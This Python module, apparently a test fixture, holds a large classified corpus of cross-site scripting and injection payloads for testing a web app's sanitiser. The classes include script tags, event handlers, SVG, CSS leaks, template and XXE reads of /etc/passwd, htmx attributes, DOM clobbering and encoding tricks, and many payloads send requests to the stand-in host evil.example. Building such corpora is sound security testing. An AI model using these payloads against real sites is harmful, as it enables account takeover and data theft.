r"""What people type who want somebody else's browser to run it: the corpus, by class.

Every payload that ran would do one of three things a browser lets us see: open a dialog, ask a
foreign host (``evil.example``) for something, or leave a mark on ``window``. None of them does
anything to anybody.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from types import MappingProxyType

HOST = "evil.example"
RUN = "alert(1)"

SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script >alert(1)</script >",
    "<script/x>alert(1)</script/x>",
    "<script\n>alert(1)</script\n>",
    "<script\x0c>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=https:evil.example/x.js></script>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<script type=module>import '//evil.example/m.js'</script>",
    "<script type=text/javascript>alert(1)</script>",
    "<script defer src='//evil.example/d.js'></script>",
    "<script nonce='' >alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "<script>window.ran=1</script>",
    "<script>fetch('//evil.example/f')</script>",
    "<script>new Image().src='//evil.example/i'</script>",
    "<script>navigator.sendBeacon('//evil.example/b')</script>",
    "<script>import('//evil.example/dyn.js')</script>",
    "<script>eval('alert(1)')</script>",
    "<script>setTimeout('alert(1)')</script>",
    "<script>location='//evil.example/'</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<script type=importmap>{"imports":{"/":"//evil.example/"}}</script>',
    '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/p"]}]}</script>',
)

#: Elements that fire a handler without anybody doing anything, or when something is passed over.
_HOLDERS = (
    ("onerror", "<img src=x {}>"),
    ("onerror", "<img/src=x\t{}>"),
    ("onerror", "<image src=x {}>"),
    ("onerror", "<video><source {}></video>"),
    ("onerror", "<audio src=x {}>"),
    ("onerror", "<object data=x {}></object>"),
    ("onerror", "<link rel=stylesheet href=//evil.example/l.css {}>"),
    ("onerror", "<script src=//evil.example/404 {}></script>"),
    ("onload", "<body {}>"),
    ("onload", "<svg {}>"),
    ("onload", "<svg/{}>"),
    ("onload", "<iframe src=about:blank {}></iframe>"),
    ("onload", "<img src=/static/ui/brand/goodword.svg {}>"),
    ("onload", "<style {}>x{{}}</style>"),
    ("onpageshow", "<body {}>"),
    ("onfocus", "<input autofocus {}>"),
    ("onfocus", "<select autofocus {}></select>"),
    ("onfocus", "<textarea autofocus {}></textarea>"),
    ("onfocus", "<a href=x autofocus {}>x</a>"),
    ("onfocusin", "<div tabindex=1 autofocus {}>x</div>"),
    ("onblur", "<input autofocus {}><input autofocus>"),
    ("ontoggle", "<details open {}><summary>x</summary></details>"),
    ("onbeforetoggle", "<div popover id=pp {}>x</div><button popovertarget=pp>x</button>"),
    ("onanimationstart", "<p style='animation:x 1s' {}>x</p>"),
    ("onanimationend", "<b class=fresh {}>x</b>"),
    ("ontransitionend", "<p style='transition:all 1s' {}>x</p>"),
    ("onstart", "<marquee {}>x</marquee>"),
    ("onfinish", "<marquee loop=1 {}>x</marquee>"),
    ("onplay", "<video autoplay muted src=data:, {}></video>"),
    ("onloadstart", "<audio src=x {}></audio>"),
    ("onloadedmetadata", "<video src=x {}></video>"),
    ("onscroll", "<div {} style='overflow:auto'>x</div>"),
    ("onwheel", "<p {}>x</p>"),
    ("onmouseover", "<b {}>x</b>"),
    ("onmouseenter", "<p {}>x</p>"),
    ("onpointerenter", "<p {}>x</p>"),
    ("onpointermove", "<p {}>x</p>"),
    ("onclick", "<p {}>x</p>"),
    ("ondblclick", "<p {}>x</p>"),
    ("onkeydown", "<input {}>"),
    ("oninput", "<input {}>"),
    ("onchange", "<select {}><option>x</select>"),
    ("onsubmit", "<form {}><button>x</button></form>"),
    ("oninvalid", "<input required {}>"),
    ("oncopy", "<p {}>x</p>"),
    ("onpaste", "<input {}>"),
    ("oncut", "<input {}>"),
    ("ondrag", "<p draggable=true {}>x</p>"),
    ("oncontextmenu", "<p {}>x</p>"),
    ("onhashchange", "<body {}>"),
    ("onmessage", "<body {}>"),
    ("onresize", "<body {}>"),
    ("onsecuritypolicyviolation", "<p {}>x</p>"),
    ("oncontentvisibilityautostatechange", "<p style='content-visibility:auto' {}>x</p>"),
    ("onslotchange", "<slot {}></slot>"),
    ("oncancel", "<dialog open {}>x</dialog>"),
    ("onclose", "<dialog open {}><form method=dialog><button>x</button></form></dialog>"),
)
HANDLERS = tuple(holder.format(f"{name}={RUN}") for name, holder in _HOLDERS)

SVG = (
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><script xlink:href=//evil.example/s.js /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=onload to=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'></svg>",
    "<svg><use href=//evil.example/u.svg#x></svg>",
    "<svg><image href=//evil.example/i.png /></svg>",
    "<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>",
    "<svg><style>@import '//evil.example/c.css'</style></svg>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<svg><feImage href=//evil.example/fe.png /></svg>",
    "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>alert(1)</handler>",
)

MATHML = (
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mi xlink:href='data:text/html,<script>alert(1)</script>'>x</mi></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
)

URLS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript://evil.example/%0aalert(1)",
    "javascript&colon;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<a href=javascript:alert(1)>press me</a>",
    "<a href='  javascript:alert(1)'>press me</a>",
    '<a href="data:text/html,<script>alert(1)</script>">press me</a>',
    "<a href=//evil.example/ target=_blank>press me</a>",
    "<a ping=//evil.example/ping href=/>press me</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=//evil.example/></iframe>",
    "<embed src=//evil.example/e.swf>",
    "<object data=javascript:alert(1)></object>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<form action=//evil.example/><input name=password></form>",
    "<button formaction=//evil.example/>Send</button>",
    "<input type=image src=//evil.example/b.png>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "<link rel=prefetch href=//evil.example/p>",
    "<link rel=preconnect href=//evil.example/>",
    "<link rel=manifest href=//evil.example/m.json>",
    "<img src=//evil.example/beacon.png>",
    "<img srcset='//evil.example/b2.png 1x'>",
    "<video poster=//evil.example/poster.png></video>",
    "<audio src=//evil.example/a.mp3></audio>",
    "<table background=//evil.example/t.png><tr><td>x</table>",
    "<input type=hidden form=composer name=to value=team>",
    "<frameset onload=alert(1)><frame src=//evil.example/>",
    "<portal src=//evil.example/>",
    "[press me](javascript:alert(1))",
)

CSS = (
    "<style>@import url(//evil.example/i.css);</style>",
    "<style>body{background:url(//evil.example/bg.png)}</style>",
    "<style>input[value^=a]{background:url(//evil.example/leak-a)}</style>",
    "<style>*{display:none!important}</style>",
    "<p style=background:url(//evil.example/s.png)>x</p>",
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="-moz-binding:url(//evil.example/x.xml#x)">x</p>',
    "<p style='behavior:url(//evil.example/x.htc)'>x</p>",
    "<div style=position:fixed;inset:0;z-index:9999>Sign in again</div>",
    "<link rel=stylesheet href=//evil.example/c.css>",
    "<style>@font-face{font-family:x;src:url(//evil.example/f.woff)}*{font-family:x}</style>",
)

TEMPLATES = (
    "{{7*7}}",
    "{{config}}",
    "{% include '/etc/passwd' %}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(1)')()}}",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "%(name)s %(html)s %s %d %%",
    "{0.__class__.__init__.__globals__}",
)

#: What a tidy parser turns into something else on its second reading.
MUTATIONS = (
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title></title><img src=x onerror=alert(1)>",
    "<xmp></xmp><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<plaintext><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
    "<select><template><style><!--</style><img src=x onerror=alert(1)>--></select>",
    "<img src='a`b' title='`onerror=alert(1)//'>",
    "<b <script>alert(1)</script>>x</b>",
    "<a<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img src=x:x onerror\n=\nalert(1)>",
)

ENCODED = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253Ealert(1)%253C/script%253E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "<img src=x onerror=&#97;lert(1)>",
    "<img src=x onerror=\\u0061lert(1)>",
    "<a href=&#106;avascript:alert(1)>x</a>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "¼script¾alert(1)¼/script¾",
    "&lt;img src=x onerror=alert(1)&gt;&amp;lt;b&amp;gt;",
    "=?utf-8?q?=3Cscript=3Ealert(1)=3C/script=3E?=",
)

HTMX = (
    "<div hx-get=//evil.example/h hx-trigger=load></div>",
    "<div data-hx-get=//evil.example/dh data-hx-trigger=load></div>",
    '<div hx-post=/me/theme/ hx-vals=\'{"theme":"dark"}\' hx-trigger=load></div>',
    "<div hx-on:click=alert(1)>x</div>",
    "<div hx-on::load=alert(1)>x</div>",
    "<div hx-on--after-process=alert(1) hx-get=/ hx-trigger=load>x</div>",
    "<div hx-trigger='every 1s[alert(1)]' hx-get=/>x</div>",
    "<div hx-vals='js:{x: alert(1)}' hx-get=/ hx-trigger=load>x</div>",
    "<div hx-headers='js:{x: alert(1)}' hx-get=/ hx-trigger=load>x</div>",
    "<form hx-boost=true action=//evil.example/b><button>x</button></form>",
    "<div hx-ext=debug hx-swap-oob=true id=main>gone</div>",
    "<div hx-disinherit=* hx-target=body hx-get=/account/logout/ hx-trigger=load></div>",
    "<div data-poll=//evil.example/poll data-every=1>x</div>",
    "<nav data-counts=//evil.example/counts></nav>",
    "<div data-passkey=fetch data-passkey-form=x><button>x</button></div>",
    "<button data-theme-next data-theme-address=//evil.example/theme>x</button>",
    "<hx-partial hx-target=#main><img src=x onerror=alert(1)></hx-partial>",
)

CLOBBERING = (
    "<form id=htmx><input name=process></form>",
    "<a id=defaultPrevented><a id=defaultPrevented name=x>",
    "<img name=cookie><img name=body>",
    "<form name=body><input name=append></form>",
    "<img name=getElementById><img name=querySelector>",
    "<form id=composer><input id=attributes><input name=action value=//evil.example/></form>",
    "<input name=csrfmiddlewaretoken value=stolen>",
    "<div id=main><div id=live><div id=toasts>x",
    "<a id=words-suggestions href=javascript:alert(1)>x</a>",
    "<dialog id=keys open>x</dialog>",
)

#: Out of an attribute, a style, a script, a comment.
BREAKOUTS = (
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover=alert(1) x="',
    "' onfocus=alert(1) autofocus '",
    "` onmouseover=alert(1) `",
    " onmouseover=alert(1) ",
    '"autofocus onfocus=alert(1)//',
    "/><svg onload=alert(1)>",
    'x" style="background:url(//evil.example/a.png)',
    "x' hx-get='//evil.example/br' hx-trigger='load",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</time><img src=x onerror=alert(1)>",
    "</mark><img src=x onerror=alert(1)>",
    '\\"><img src=x onerror=alert(1)>',
    "\u2028<img src=x onerror=alert(1)>\u2029",
)

JSON_BREAKOUTS = (
    "</script><img src=x onerror=alert(1)>",
    '"}</script><script>alert(1)</script>',
    '","x":alert(1),"y":"',
    '\\"};alert(1);//',
    "';alert(1);//",
    '";alert(1);//',
    "`${alert(1)}`",
    "<!--<script>",
    '{"__proto__":{"innerHTML":"<img src=x onerror=alert(1)>"}}',
    "'><img src=x onerror=alert(1)> data-passkey-options='{",
)

UNICODE = (
    "＜script＞alert(1)＜/script＞",
    "‹script›alert(1)‹/script›",
    "<\u200bscript>alert(1)</script>",
    "<scr\u00adipt>alert(1)</scr\u00adipt>",
    "\u202e<script>alert(1)</script>\u202c",
    "<ſcript>alert(1)</ſcript>",
    "<img src=x onerror=alert(1)\u3000>",
    "\ufeff<script>alert(1)</script>",
    "<img\u2028src=x\u2028onerror=alert(1)>",
    "<İmg src=x onerror=alert(1)>",
    "\u0338><script>alert(1)</script>",
    "<K\u212aevin><img src=x onerror=alert(1)>",
)

MARKDOWN = (
    "[x](javascript:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](//evil.example/md.png)",
    '![x" onerror="alert(1)](x)',
    "[x]: javascript:alert(1)\n[x]",
    "<javascript:alert(1)>",
    '<https://evil.example/"onmouseover=alert(1)>',
    "```html\n<script>alert(1)</script>\n```",
    "# <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    'https://evil.example/?q="><img src=x onerror=alert(1)>',
)

CLASSES: Mapping[str, tuple[str, ...]] = MappingProxyType(
    {
        "script": SCRIPTS,
        "handlers": HANDLERS,
        "svg": SVG,
        "mathml": MATHML,
        "addresses": URLS,
        "css": CSS,
        "templates": TEMPLATES,
        "mutations": MUTATIONS,
        "encoded": ENCODED,
        "htmx": HTMX,
        "clobbering": CLOBBERING,
        "breakouts": BREAKOUTS,
        "json": JSON_BREAKOUTS,
        "unicode": UNICODE,
        "markdown": MARKDOWN,
    }
)
CORPUS: tuple[str, ...] = tuple(dict.fromkeys(one for these in CLASSES.values() for one in these))


def chunks(longest: int) -> Iterator[str]:
    """Yield texts of at most this many characters that hold the whole corpus between them.

    A payload longer than that stands alone and cut: half a payload is an attack of its own.
    """
    piece = ""
    for payload in CORPUS:
        if piece and len(piece) + 1 + len(payload) > longest:
            yield piece
            piece = ""
        piece = f"{piece} {payload}"[:longest].lstrip(" ") if piece else payload[:longest]
    if piece:
        yield piece
